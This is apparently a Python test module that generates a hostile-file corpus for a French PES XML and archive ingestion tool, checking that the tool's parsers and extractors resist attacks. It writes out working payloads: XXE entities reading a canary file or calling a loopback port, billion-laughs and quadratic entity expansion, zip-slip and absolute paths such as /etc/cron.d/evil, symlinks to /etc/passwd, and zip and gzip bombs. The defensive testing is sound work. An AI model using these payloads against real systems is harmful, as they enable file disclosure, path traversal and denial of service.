"""A hostile corpus, generated at test time (never copied): what production throws at demat.

Each `Hostile` builds one file in a folder. `ctx` gives the canary secret file (outside the
platform's areas) and the loopback port of a listener that must never be contacted. Big
inputs are sparse files or multi-member gzip streams so the corpus costs a few MB of disk.
"""

from __future__ import annotations

import functools
import io
import os
import stat
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

CANARY = "CANARI-SECRET-7f3a9c"
MIB = 1024 * 1024


@dataclass(frozen=True)
class Ctx:
    canary: Path  # a file holding CANARY, outside every platform area
    port: int  # a loopback port whose listener must receive no connection
    good_pes: bytes  # a valid PES_Aller (ISO-8859-1) to mutate
    good_acte: bytes  # a valid acte ZIP to mutate


@dataclass(frozen=True)
class Hostile:
    name: str  # file name as dropped (the extension guides the inbox flow)
    flow: str  # "helios" or "actes": the inbox it is dropped into
    build: Callable[[Ctx], bytes | None]  # bytes, or None when `make` writes the file itself
    make: Callable[[Path, Ctx], None] | None = None
    big: bool = False  # past the caps: entry points reading bytes in memory skip it
    bomb: bool = False  # decompression bomb: memory measured in a child process
    disguised: bool = False  # a valid document of the other flow: refused by its inbox, valid for `demat validate`


# ------------------------------------------------------------------------------------ XML


def _xml(body: str, doctype: str = "", encoding: str = "ISO-8859-1") -> bytes:
    return f'<?xml version="1.0" encoding="{encoding}"?>\n{doctype}{body}'.encode("latin-1")


def xxe_file(c: Ctx) -> bytes:
    return _xml("<PES_Aller><EnTetePES><LibelleColBud V=\"&x;\"/></EnTetePES>&x;</PES_Aller>",
                f'<!DOCTYPE PES_Aller [<!ENTITY x SYSTEM "file://{c.canary}">]>\n')


def xxe_net(c: Ctx) -> bytes:
    return _xml("<PES_Aller>&x;</PES_Aller>", f'<!DOCTYPE PES_Aller [<!ENTITY x SYSTEM "http://127.0.0.1:{c.port}/x">]>\n')


def xxe_param(c: Ctx) -> bytes:
    return _xml("<PES_Aller/>", f'<!DOCTYPE PES_Aller [<!ENTITY % p SYSTEM "http://127.0.0.1:{c.port}/p.dtd"> %p;]>\n')


def xxe_external_dtd(c: Ctx) -> bytes:
    return _xml("<PES_Aller/>", f'<!DOCTYPE PES_Aller SYSTEM "http://127.0.0.1:{c.port}/pes.dtd">\n')


def doctype_after_long_comment(c: Ctx) -> bytes:
    """The DOCTYPE past the first 64 KiB (where a naive prolog check stops looking)."""
    pad = "<!--" + "x" * (70 * 1024) + "-->\n"
    return _xml("<PES_Aller>&x;</PES_Aller>",
                pad + f'<!DOCTYPE PES_Aller [<!ENTITY x SYSTEM "file://{c.canary}">]>\n')


def billion_laughs(_c: Ctx) -> bytes:
    ents = ['<!ENTITY l0 "ha">'] + [f'<!ENTITY l{i} "{f"&l{i - 1};" * 10}">' for i in range(1, 10)]
    return _xml("<PES_Aller>&l9;</PES_Aller>", "<!DOCTYPE PES_Aller [" + "".join(ents) + "]>\n")


def quadratic_blowup(_c: Ctx) -> bytes:
    return _xml("<PES_Aller>" + "&a;" * 50_000 + "</PES_Aller>", '<!DOCTYPE PES_Aller [<!ENTITY a "' + "A" * 50_000 + '">]>\n')


def xinclude(c: Ctx) -> bytes:
    return _xml(f'<PES_Aller xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="file://{c.canary}" parse="text"/>'
                f'<xi:include href="http://127.0.0.1:{c.port}/inc.xml"/></PES_Aller>')


def schema_location_net(c: Ctx) -> bytes:
    return _xml('<PES_Aller xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" '
                f'xsi:noNamespaceSchemaLocation="http://127.0.0.1:{c.port}/pes.xsd"/>')


def deep_nesting(_c: Ctx) -> bytes:
    return _xml("<PES_Aller>" + "<a>" * 100_000 + "</a>" * 100_000 + "</PES_Aller>")


def utf8_declared_latin1(c: Ctx) -> bytes:
    """Lying encoding: the bytes are UTF-8 (accents as two bytes), the declaration says ISO-8859-1."""
    text = c.good_pes.decode("iso-8859-1").replace("<Obj V=\"", "<Obj V=\"Édition spéciale ")
    return text.encode("utf-8")


def latin1_declared_utf8(c: Ctx) -> bytes:
    text = c.good_pes.decode("iso-8859-1").replace("<Obj V=\"", "<Obj V=\"Édition spéciale ")
    return text.replace('encoding="ISO-8859-1"', 'encoding="UTF-8"').encode("iso-8859-1")


def utf16_no_bom(c: Ctx) -> bytes:
    text = c.good_pes.decode("iso-8859-1").replace('encoding="ISO-8859-1"', 'encoding="UTF-16"')
    return text.encode("utf-16-le")


def utf16_bom_declared_latin1(c: Ctx) -> bytes:
    return c.good_pes.decode("iso-8859-1").encode("utf-16")


def unknown_encoding(c: Ctx) -> bytes:
    return c.good_pes.replace(b'encoding="ISO-8859-1"', b'encoding="X-DEMAT-INCONNU"')


def nul_bytes(c: Ctx) -> bytes:
    mid = len(c.good_pes) // 2
    return c.good_pes[:mid] + b"\x00\x00\x00" + c.good_pes[mid:]


def truncated_pes(c: Ctx) -> bytes:
    return c.good_pes[: len(c.good_pes) // 2]


def binary(_c: Ctx) -> bytes:
    return bytes((i * 7919 + 13) % 256 for i in range(8192))


def empty(_c: Ctx) -> bytes:
    return b""


def only_bom(_c: Ctx) -> bytes:
    return b"\xef\xbb\xbf"


def make_sparse(size: int, head: bytes = b"") -> Callable[[Path, Ctx], None]:
    def make(path: Path, _c: Ctx) -> None:
        with path.open("wb") as fh:
            fh.write(head)
            fh.truncate(size)  # a hole: no disk block is allocated
    return make


# ------------------------------------------------------------------------------------ archives


def _zip(members: list[tuple[zipfile.ZipInfo | str, bytes]]) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
        for info, data in members:
            zf.writestr(info, data)
    return buf.getvalue()


def _acte_members(c: Ctx) -> list[tuple[str, bytes]]:
    with zipfile.ZipFile(io.BytesIO(c.good_acte)) as zf:
        return [(n, zf.read(n)) for n in zf.namelist()]


def zip_with(extra_name: str, data: bytes = b"pwned") -> Callable[[Ctx], bytes]:
    return lambda c: _zip([*_acte_members(c), (extra_name, data)])


def zip_symlink(c: Ctx) -> bytes:
    info = zipfile.ZipInfo("annexe.pdf")
    info.external_attr = (stat.S_IFLNK | 0o777) << 16
    info.create_system = 3
    return _zip([*_acte_members(c), (info, str(c.canary).encode())])


def zip_encrypted_flag(c: Ctx) -> bytes:
    data = bytearray(c.good_acte)
    # set the "encrypted" bit in every local and central header
    for sig, off in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        i = data.find(sig)
        while i != -1:
            flags = struct.unpack_from("<H", data, i + off)[0] | 1
            struct.pack_into("<H", data, i + off, flags)
            i = data.find(sig, i + 4)
    return bytes(data)


def zip_lying_size(c: Ctx) -> bytes:
    """Every member claims 10 bytes in the central directory and local headers."""
    data = bytearray(c.good_acte)
    for sig, off in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):
        i = data.find(sig)
        while i != -1:
            struct.pack_into("<I", data, i + off, 10)
            i = data.find(sig, i + 4)
    return bytes(data)


def zip_bomb(c: Ctx) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as zf:
        for n, d in _acte_members(c):
            zf.writestr(n, d)
        with zf.open("annexe-bombe.pdf", "w", force_zip64=True) as fh:
            block = b"\0" * MIB
            for _ in range(100):
                fh.write(block)
    return buf.getvalue()


def zip_many_members(_c: Ctx) -> bytes:
    return _zip([(f"f{i}.txt", b"") for i in range(2000)])


def zip_duplicate_names(c: Ctx) -> bytes:
    import warnings

    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        return _zip([*_acte_members(c), *_acte_members(c)[:1]])


def zip_xxe_metadata(c: Ctx) -> bytes:
    members = []
    for n, d in _acte_members(c):
        if n.endswith(".xml"):
            d = d.replace(b"?>", f'?>\n<!DOCTYPE x [<!ENTITY e SYSTEM "file://{c.canary}">]>'.encode(), 1)
            d = d.replace(b"</", b"&e;</", 1)
        members.append((n, d))
    return _zip(members)


def truncated_zip(c: Ctx) -> bytes:
    return c.good_acte[: len(c.good_acte) * 2 // 3]


def _tar(members: list[tarfile.TarInfo | tuple[str, bytes]], gz: bool = True) -> bytes:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w:gz" if gz else "w", format=tarfile.GNU_FORMAT) as tar:
        for m in members:
            if isinstance(m, tarfile.TarInfo):
                tar.addfile(m)
            else:
                info = tarfile.TarInfo(m[0])
                info.size = len(m[1])
                tar.addfile(info, io.BytesIO(m[1]))
    return buf.getvalue()


def _link(name: str, target: str, kind=tarfile.SYMTYPE) -> tarfile.TarInfo:
    info = tarfile.TarInfo(name)
    info.type = kind
    info.linkname = target
    return info


def tar_with(members_fn: Callable[[Ctx], list]) -> Callable[[Ctx], bytes]:
    return lambda c: _tar(members_fn(c))


def tar_lying_size(_c: Ctx) -> bytes:
    raw = bytearray(_tar([("a.xml", b"<a/>" * 100), ("b.xml", b"<b/>")], gz=False))
    # header of a.xml says 4 bytes (octal field at offset 124): the rest becomes "garbage headers"
    raw[124:136] = b"00000000004\0"
    chksum = sum(raw[0:148]) + 8 * 32 + sum(raw[156:512])
    raw[148:156] = f"{chksum:06o}\0 ".encode()
    return zlib_gzip(bytes(raw))


def tar_size_too_big(_c: Ctx) -> bytes:
    raw = bytearray(_tar([("a.xml", b"<a/>")], gz=False))
    raw[124:136] = b"77777777777\0"  # 8 GiB announced, 4 bytes present
    chksum = sum(raw[0:148]) + 8 * 32 + sum(raw[156:512])
    raw[148:156] = f"{chksum:06o}\0 ".encode()
    return zlib_gzip(bytes(raw))


def zlib_gzip(raw: bytes) -> bytes:
    co = zlib.compressobj(6, zlib.DEFLATED, 16 + zlib.MAX_WBITS)
    return co.compress(raw) + co.flush()


@functools.lru_cache(maxsize=1)
def _zeros_member() -> bytes:
    """One gzip member holding 64 MiB of zeros (about 64 KiB compressed)."""
    co = zlib.compressobj(9, zlib.DEFLATED, 16 + zlib.MAX_WBITS)
    return co.compress(b"\0" * (64 * MIB)) + co.flush()


def gzip_bomb(_c: Ctx) -> bytes:
    """A tar.gz whose single member expands to 4 GiB: one gzip member holding 64 MiB of zeros,
    repeated (multi-member gzip is legal), after a member carrying the tar header."""
    info = tarfile.TarInfo("Content/bombe.xml")
    info.size = 4096 * MIB
    header = info.tobuf(format=tarfile.GNU_FORMAT)
    return zlib_gzip(header) + _zeros_member() * 64


def gzip_bomb_raw(_c: Ctx) -> bytes:
    """Not even a tar: 2 GiB of zeros in a gzip (an `.xml.gz` dropped as-is)."""
    return _zeros_member() * 32


def truncated_targz(_c: Ctx) -> bytes:
    data = _tar([("manifest.xml", b"<x/>" * 5000), ("Content/a.pdf", os.urandom(20000))])
    return data[: len(data) // 2]


def corpus() -> list[Hostile]:
    H = Hostile
    xml_items = [
        H("xxe-fichier.xml", "helios", xxe_file),
        H("xxe-reseau.xml", "helios", xxe_net),
        H("xxe-entite-parametre.xml", "helios", xxe_param),
        H("xxe-dtd-externe.xml", "helios", xxe_external_dtd),
        H("doctype-apres-64k.xml", "helios", doctype_after_long_comment),
        H("milliard-de-rires.xml", "helios", billion_laughs),
        H("explosion-quadratique.xml", "helios", quadratic_blowup),
        H("xinclude.xml", "helios", xinclude),
        H("schema-distant.xml", "helios", schema_location_net),
        H("imbrication-profonde.xml", "helios", deep_nesting),
        H("utf8-declare-latin1.xml", "helios", utf8_declared_latin1),
        H("latin1-declare-utf8.xml", "helios", latin1_declared_utf8),
        H("utf16-sans-bom.xml", "helios", utf16_no_bom),
        H("utf16-bom-declare-latin1.xml", "helios", utf16_bom_declared_latin1),
        H("encodage-inconnu.xml", "helios", unknown_encoding),
        H("octets-nuls.xml", "helios", nul_bytes),
        H("pes-tronque.xml", "helios", truncated_pes),
        H("binaire.xml", "helios", binary),
        # a malformed qualified name: libxml2's streaming parser yields the element "n:" before the
        # error, and etree.QName() on it raises ValueError (found by the hypothesis tests)
        H("nom-qualifie-invalide.xml", "helios", lambda c: b'<?xml version="1.0"?>\n<n: xmlns:n="urn:x"><a/></n:>'),
        H("nom-qualifie-invalide-enfant.xml", "helios",
          lambda c: c.good_pes.replace(b"<Enveloppe>", b"<Enveloppe><n:/>", 1)),
        H("vide.xml", "helios", empty),
        H("bom-seul.xml", "helios", only_bom),
        H("archive-zip-dans-helios.xml", "helios", lambda c: c.good_acte, disguised=True),
        H("bombe-gzip.xml.gz", "helios", gzip_bomb_raw, bomb=True),
        H("geant-creux.xml", "helios", lambda c: None, make_sparse(1100 * MIB, b'<?xml version="1.0"?><PES_Aller>'), big=True),
        H("geant-creux-520M.xml", "helios", lambda c: None, make_sparse(520 * MIB), big=True),
    ]
    archive_items = [
        H("zip-remontant.zip", "actes", zip_with("../../../../tmp/evil.txt")),
        H("zip-remontant-windows.zip", "actes", zip_with("..\\..\\evil.txt")),
        H("zip-chemin-absolu.zip", "actes", zip_with("/etc/cron.d/evil")),
        H("zip-lecteur-windows.zip", "actes", zip_with("C:/Windows/evil.txt")),
        H("zip-octet-nul.zip", "actes", zip_with("annexe.pdf\x00.txt")),
        H("zip-lien-symbolique.zip", "actes", zip_symlink),
        H("zip-chiffre.zip", "actes", zip_encrypted_flag),
        H("zip-taille-mensongere.zip", "actes", zip_lying_size),
        H("zip-bombe.zip", "actes", zip_bomb, bomb=True),
        H("zip-2000-fichiers.zip", "actes", zip_many_members),
        H("zip-noms-en-double.zip", "actes", zip_duplicate_names),
        H("zip-metadonnees-xxe.zip", "actes", zip_xxe_metadata),
        H("zip-tronque.zip", "actes", truncated_zip),
        H("zip-vide.zip", "actes", lambda c: _zip([])),
        H("zip-binaire.zip", "actes", binary),
        H("zip-vide-0-octet.zip", "actes", empty),
        H("pes-dans-actes.zip", "actes", lambda c: c.good_pes, disguised=True),
        H("tar-remontant.tar.gz", "actes", tar_with(lambda c: [("../evil.xml", b"<x/>")])),
        H("tar-chemin-absolu.tar.gz", "actes", tar_with(lambda c: [("/tmp/evil.xml", b"<x/>")])),
        H("tar-lien-symbolique.tar.gz", "actes", tar_with(lambda c: [_link("manifest.xml", str(c.canary))])),
        H("tar-lien-physique.tar.gz", "actes", tar_with(lambda c: [("a.xml", b"<a/>"), _link("manifest.xml", str(c.canary), tarfile.LNKTYPE)])),
        H("tar-lien-relatif.tar.gz", "actes", tar_with(lambda c: [_link("Content/x", "../../../../etc/passwd")])),
        H("tar-peripherique.tar.gz", "actes", tar_with(lambda c: [_fifo("Content/fifo")])),
        H("tar-taille-mensongere.tar.gz", "actes", tar_lying_size),
        H("tar-taille-8Gio.tar.gz", "actes", tar_size_too_big),
        H("tar-bombe-gzip.tar.gz", "actes", gzip_bomb, bomb=True),
        H("tar-tronque.tar.gz", "actes", truncated_targz),
        H("geant-creux.zip", "actes", lambda c: None, make_sparse(520 * MIB, b"PK\x03\x04"), big=True),
    ]
    return xml_items + archive_items


def _fifo(name: str) -> tarfile.TarInfo:
    info = tarfile.TarInfo(name)
    info.type = tarfile.FIFOTYPE
    return info


def write(item: Hostile, folder: Path, ctx: Ctx) -> Path:
    path = folder / item.name
    if item.make is not None:
        item.make(path, ctx)
    else:
        path.write_bytes(item.build(ctx))
    return path
